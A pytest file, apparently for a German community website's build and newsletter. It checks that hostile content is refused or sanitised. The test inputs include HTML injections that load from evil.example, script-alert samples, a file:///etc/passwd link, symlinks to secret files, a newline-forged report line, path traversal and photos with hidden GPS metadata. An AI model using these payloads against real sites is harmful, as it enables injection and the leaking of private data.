    folder.mkdir(exist_ok=True)
    (folder / "2026-11-20.md").write_text(text, encoding="utf-8")
    with environment(None, tmp_path):
        return build(Path(__file__).resolve().parent.parent / "pelicanconf.py", tmp_path / "output",
                     content, overrides={"NEWSLETTER_PREVIEW": {"since": "2000-01-01"}})


def test_an_editorial_comment_is_refused_and_its_links_read_whole_in_the_text_part(
        tmp_path: Path, good_content: Path) -> None:
    editorial = ("---\nsubject: Hallo\n---\n\nWillkommen zur neuen Ausgabe.\n\n{comment}"
                 "Mehr auf der [Website der Stadt](https://www.wuerzburg.de/).\n")
    result = build_with_editorial(tmp_path, good_content, editorial.format(
        comment="<!-- intern: Budget des Gewinnspiels 500 Euro, noch nicht freigegeben -->\n\n"))
    expected = "content/newsletter/2026-11-20.md:7: HTML-Kommentar wird nicht veröffentlicht"
    assert not result.ok and any(problem.startswith(expected) for problem in result.problems), result.problems
    result = build_with_editorial(tmp_path, good_content, editorial.format(comment=""))
    assert result.ok, result.problems
    text = (tmp_path / "output" / "newsletter-preview" / "issue.txt").read_text(encoding="utf-8")
    assert "Willkommen zur neuen Ausgabe." in text
    # The text part's link, as text, with the words around it.
    assert "Mehr auf der Website der Stadt (https://www.wuerzburg.de/)." in " ".join(text.split())


def test_an_editorial_cannot_link_to_the_unsubscribe_address(tmp_path: Path, good_content: Path) -> None:
    # Replaced by each reader's own unsubscribe link: a "prize draw" link would unsubscribe.
    result = build_with_editorial(tmp_path, good_content, (
        "---\nsubject: Hallo\n---\n\nJetzt beim [Gewinnspiel](https://abmelden.invalid/) mitmachen!\n"))
    assert not result.ok and not (tmp_path / "output").exists()
    expected = "content/newsletter/2026-11-20.md:5: „abmelden.invalid“ ist dem Abmeldelink"
    assert any(problem.startswith(expected) for problem in result.problems), result.problems
    with environment(None, tmp_path):
        assert any(str(problem).startswith(expected) for problem in content_problems(str(good_content)))


@pytest.mark.parametrize(("body", "offset", "words"), [
    # An indented paragraph of a list item is text, not code: its image would load.
    ('- Punkt eins\n\n    Mehr dazu <img src="https://evil.example/p.png" alt="Bild">', 2, "evil.example"),
    # A fence of four backticks is not closed by three: what follows the fourth is HTML again.
    ('````\n```\n````\n\n<iframe src="https://evil.example/"></iframe>', 4, "<iframe>"),
])
def test_what_the_markdown_parser_reads_as_html_is_checked_as_html(
        tmp_path: Path, good_content: Path, body: str, offset: int, words: str) -> None:
    post(good_content, body)
    refused(tmp_path, good_content, BODY_LINE + offset, words)


def test_html_inside_any_code_block_stays_an_example(tmp_path: Path, good_content: Path) -> None:
    post(good_content, "~~~\n```\n<script>alert(1)</script>\n~~~\n\n> ```\n> <iframe></iframe>\n> ```\n\n"
         "Text\n\n    <script>alert(2)</script>")
    run = run_build(tmp_path, good_content, tmp_path / "output")
    assert run.code == 0, run.stderr
    page = (tmp_path / "output" / "aktuelles" / "2023" / "von-aussen" / "index.html").read_text(
        encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "&lt;script&gt;alert(2)" in page


@pytest.mark.parametrize(("body", "extra", "line", "words"), [
    # No feed, calendar or PDF can hold these: one German line instead of an XML library's error.
    ("Text mit \ufffe darin.", "", BODY_LINE, "Text enthält ein unsichtbares Steuerzeichen U+FFFE"),
    ("```\nCode mit \x07 darin\n```", "", BODY_LINE + 1, "unsichtbares Steuerzeichen U+0007"),
    # Beyond the first plane: a noncharacter, and a control character after an emoji.
    ("Text mit \U0001fffe darin.", "", BODY_LINE, "unsichtbares Steuerzeichen U+1FFFE"),
    ("Gut \U0001f600\nund \u202e hier.", "", BODY_LINE + 1, "unsichtbares Steuerzeichen U+202E"),
    # Time zone arithmetic overflows at the ends of the calendar.
    ("Text.", "modified: 9999-12-31 23:59\n", 6, "liegt nicht zwischen 1900 und 2200"),
    # Another template fails the build (unknown) or shows the post without its text (search).
    ("Text.", "template: gibtsnicht\n", 6, "Vorlage „gibtsnicht“ gibt es hier nicht"),
    ("Text.", "template: search\n", 6, "Vorlage „search“ gibt es hier nicht"),
])
def test_input_that_used_to_end_in_an_exception_is_one_german_line(
        tmp_path: Path, good_content: Path, body: str, extra: str, line: int, words: str) -> None:
    post(good_content, body, extra=extra)
    refused(tmp_path, good_content, line, words)


def build_and_check_say(tmp_path: Path, content: Path, expected: str) -> None:
    """Build and check refuse with ``expected``, and no line of the build's report is anything
    else than a German problem line or its summary."""
    run, _checked = refused_by_build_and_check(tmp_path, content, expected)
    assert all(row.startswith(("content/", str(content), "Build abgebrochen"))
               for row in run.stderr.splitlines())


def test_a_symlinked_posts_folder_is_refused_file_by_file(tmp_path: Path, good_content: Path) -> None:
    outside = tmp_path / "anderswo"
    (good_content / "posts").rename(outside)
    (good_content / "posts").symlink_to(outside)
    build_and_check_say(tmp_path, good_content,
                        "content/posts/2023-06-01-ausblick.md:1: Datei ist ein Verweis (Symlink)")


def test_the_record_of_sent_issues_is_never_read_from_elsewhere(tmp_path: Path, good_content: Path) -> None:
    (tmp_path / "geheim.yml").write_text("zugang: passwort-123\n", encoding="utf-8")
    (good_content / "newsletter").mkdir()
    (good_content / "newsletter" / "issues.yml").symlink_to(tmp_path / "geheim.yml")
    build_and_check_say(tmp_path, good_content, "content/newsletter/issues.yml:1: Datei ist ein Verweis")
    assert "passwort-123" not in run_build(tmp_path, good_content, tmp_path / "output").stderr


def test_a_file_name_with_a_line_break_cannot_write_a_line_of_the_report(
        tmp_path: Path, good_content: Path) -> None:
    post(good_content, "Text.", name="2023-08-01-a\nWebsite gebaut: alles gut.md")
    build_and_check_say(tmp_path, good_content,
                        "content/posts/2023-08-01-a\\nWebsite gebaut: alles gut.md:1: "
                        "Dateiname enthält einen Zeilenumbruch")


def test_an_editorial_subject_that_is_not_text_is_refused(tmp_path: Path, good_content: Path) -> None:
    result = build_with_editorial(tmp_path, good_content, "---\nsubject: 12345\n---\n\nText.\n")
    expected = "content/newsletter/2026-11-20.md:2: Feld „subject“ ist kein Text"
    assert not result.ok and any(problem.startswith(expected) for problem in result.problems), result.problems


def test_the_record_of_sent_issues_is_typed_alike_in_build_and_check(tmp_path: Path,
                                                                    good_content: Path) -> None:
    (good_content / "newsletter").mkdir()
    (good_content / "newsletter" / "issues.yml").write_text(
        "issues:\n  - number: 1\n    date: 2022-06-02T09:00\n    subject: 42\n    posts: [zukunft]\n"
        "  - number: 2\n    date: 2022-07-02T09:00\n    subject: Gut\n    campaigns: [1, 2]\n",
        encoding="utf-8")
    run, checked = refused_by_build_and_check(tmp_path, good_content,
                                              "content/newsletter/issues.yml:4: Feld „subject“ ist kein Text")
    mine = [row for row in run.stderr.splitlines() if "issues.yml" in row]
    assert mine == [row.replace(str(good_content), "content") for row in checked if "issues.yml" in row]
    assert [row.split(": ", 2)[0] for row in mine] == ["content/newsletter/issues.yml:4",
                                                       "content/newsletter/issues.yml:9"]


def test_a_record_naming_a_post_or_event_that_is_not_there_is_refused_alike_by_build_and_check(
        tmp_path: Path, good_content: Path) -> None:
    (good_content / "newsletter").mkdir()
    (good_content / "newsletter" / "issues.yml").write_text(
        "issues:\n  - number: 1\n    date: 2022-06-02T09:00\n    subject: Eins\n    posts: [nichtda]\n"
        "  - number: 2\n    date: 2022-07-02T09:00\n    subject: Zwei\n    posts: [../../etc]\n"
        "    events: [kein-termin]\n", encoding="utf-8")
    gone = "den es nicht (mehr) gibt"
    expected = f"content/newsletter/issues.yml:2: Ausgabe 1 nennt den Beitrag „nichtda“, {gone}"
    run, checked = refused_by_build_and_check(tmp_path, good_content, expected)
    for said in (run.stderr.splitlines(), checked):
        mine = sorted(row.split(" — ")[0] for row in said if "issues.yml" in row)
        second = "content/newsletter/issues.yml:6: Ausgabe 2 nennt den"
        assert mine == [expected, f"{second} Beitrag „../../etc“, {gone}",
                        f"{second} Termin „kein-termin“, {gone}"], said


def test_text_files_beyond_the_budget_or_not_in_utf8_are_refused_before_parsing(
        tmp_path: Path, good_content: Path) -> None:
    # A megabyte of one paragraph: refused at line 1 before any scan reads it.
    post(good_content, "Wort " * 250_000)
    (good_content / "newsletter").mkdir()
    (good_content / "newsletter" / "2026-11-20.md").write_bytes(
        "---\nsubject: Grüße\n---\n\nHallo.\n".encode("latin-1"))
    # Every field of an editorial typed: one it does not know, a control character in its text.
    (good_content / "newsletter" / "2026-11-21.md").write_text(
        "---\nsubject: Hallo\nabsender: x\n---\n\nHallo\x07.\n", encoding="utf-8")
    run, checked = refused_by_build_and_check(
        tmp_path, good_content, "content/posts/2023-08-01-von-aussen.md:1: Datei ist größer als 1 MB")
    for said in (run.stderr, "\n".join(checked)):
        assert "newsletter/2026-11-20.md:2: Datei ist nicht in UTF-8 gespeichert" in said, said
        assert "newsletter/2026-11-21.md:3: unbekanntes Feld „absender“" in said, said
        assert "newsletter/2026-11-21.md:6: Text enthält ein unsichtbares Steuerzeichen U+0007" in said, said


def test_a_post_with_thousands_of_tags_is_refused_not_built_into_thousands_of_pages(
        tmp_path: Path, good_content: Path) -> None:
    # Each tag is a page of its own: 3,000 of them in one line would make 3,000 topic pages (a
    # megabyte of tags, 60,000 pages and minutes of build).
    post(good_content, "Text.", extra="tags: " + ", ".join(f"Schlagwort {n}" for n in range(3000)) + "\n")
    refused(tmp_path, good_content, 6, "Feld „tags“ hat 3000 Einträge (höchstens 50)")


def _app1(payload: bytes) -> bytes:
    return b"\xff\xe1" + (len(payload) + 2).to_bytes(2, "big") + payload


def _gps_jpeg() -> bytes:
    from io import BytesIO

    exif = Image.Exif()
    exif[0x8825] = {1: "N", 2: (49.0, 47.0, 36.0), 3: "E", 4: (9.0, 56.0, 1.0)}
    out = BytesIO()
    Image.new("RGB", (4, 4), "blue").save(out, format="JPEG", exif=exif)
    return out.getvalue()


def _second_exif_block(photo: Path) -> None:
    # A clean first EXIF block, the GPS one second: Pillow reads only the first.
    from io import BytesIO

    clean = Image.Exif()
    clean[0x0110] = "Kamera"
    out = BytesIO()
    Image.new("RGB", (64, 48), "green").save(out, format="JPEG", exif=clean)
    data = out.getvalue()
    gps = _gps_jpeg()
    start = gps.index(b"\xff\xe1")
    block = gps[start:start + 4 + int.from_bytes(gps[start + 2:start + 4], "big") - 2]
    first = data.index(b"\xff\xe1")
    end = first + 2 + int.from_bytes(data[first + 2:first + 4], "big")
    photo.write_bytes(data[:end] + block + data[end:])


def _appended_photo(photo: Path) -> None:
    Image.new("RGB", (64, 48), "green").save(photo, format="JPEG")
    photo.write_bytes(photo.read_bytes() + _gps_jpeg())  # after the end marker: browsers ignore it


def _xmp_other_prefix(photo: Path) -> None:
    xmp = (b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-'
           b'syntax-ns#"><rdf:Description xmlns:ps="http://ns.adobe.com/photoshop/1.0/" ps:City="Wuerzburg" '
           b'ps:State="Bayern"/></rdf:RDF></x:xmpmeta>')
    Image.new("RGB", (64, 48), "green").save(photo, format="JPEG", xmp=xmp)


def _xmp_utf16(photo: Path) -> None:
    xmp = ('<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" '
           'exif:GPSLatitude="49,47.6N"/></x:xmpmeta>').encode("utf-16-le")
    Image.new("RGB", (64, 48), "green").save(photo, format="JPEG")
    data = photo.read_bytes()
    photo.write_bytes(data[:2] + _app1(b"http://ns.adobe.com/xap/1.0/\x00" + xmp) + data[2:])


def _gif_comment(photo: Path) -> None:
    Image.new("P", (16, 16), 3).save(photo, format="GIF", comment=b"Aufgenommen Sanderstrasse 4, Wuerzburg")


def _turned_photo(photo: Path) -> None:
    # Taken upright, stored lying on its side (EXIF orientation 6): published upright.
    exif = Image.Exif()
    exif[0x0112] = 6
    Image.new("RGB", (64, 48), "green").save(photo, format="JPEG", exif=exif)


@pytest.mark.parametrize(("name", "make", "secrets"), [
    ("zweiter-block.jpg", _second_exif_block, [b"GPS", b"\x00\x00\x00\x31"]),
    ("angehaengt.jpg", _appended_photo, [b"Exif"]),
    ("anderes-praefix.jpg", _xmp_other_prefix, [b"Wuerzburg", b"Bayern"]),
    ("utf16.jpg", _xmp_utf16, ["GPSLatitude".encode("utf-16-le"), b"xap/1.0"]),
    ("kommentar.gif", _gif_comment, [b"Sanderstrasse"]),
    ("gedreht.jpg", _turned_photo, [b"Exif"]),
])
def test_a_published_photo_carries_nothing_but_its_picture(tmp_path: Path, good_content: Path, name: str,
                                                           make, secrets: list[bytes]) -> None:
    # Places the content check does not recognise: the site publishes every raster upload drawn
    # anew from its pixels, so whatever a file carries besides them stays out.
    make(good_content / "images" / name)
    post(good_content, f"![Ein Bild]({{static}}/images/{name})")
    run = run_build(tmp_path, good_content, tmp_path / "output")
    assert run.code == 0, run.stderr
    published = (tmp_path / "output" / "images" / name).read_bytes()
    assert [secret for secret in secrets if secret in published] == []
    with Image.open(tmp_path / "output" / "images" / name) as image:
        assert not image.getexif() and "xmp" not in image.info and "comment" not in image.info
        assert image.size == ((48, 64) if name == "gedreht.jpg" else (16, 16) if name.endswith(".gif")
                              else (64, 48))
        assert image.format == ("GIF" if name.endswith(".gif") else "JPEG")


def test_a_link_the_sanitiser_drops_is_one_message_in_an_editorial(tmp_path: Path) -> None:
    from plugins.programme.editorials import read_editorial_source

    editorial = tmp_path / "2026-11-20.md"
    editorial.write_text("---\nsubject: Hallo\n---\n\nLies [das](file:///etc/passwd) und "
                         "[dies](/impressum/).\n", encoding="utf-8")
    said = [problem.message for problem in read_editorial_source(editorial).problems]
    assert sorted(said) == ["Link „/impressum/“ führt in einer E-Mail ins Leere",
                            "Link-Adresse „file:///etc/passwd“ wird nicht veröffentlicht"], said
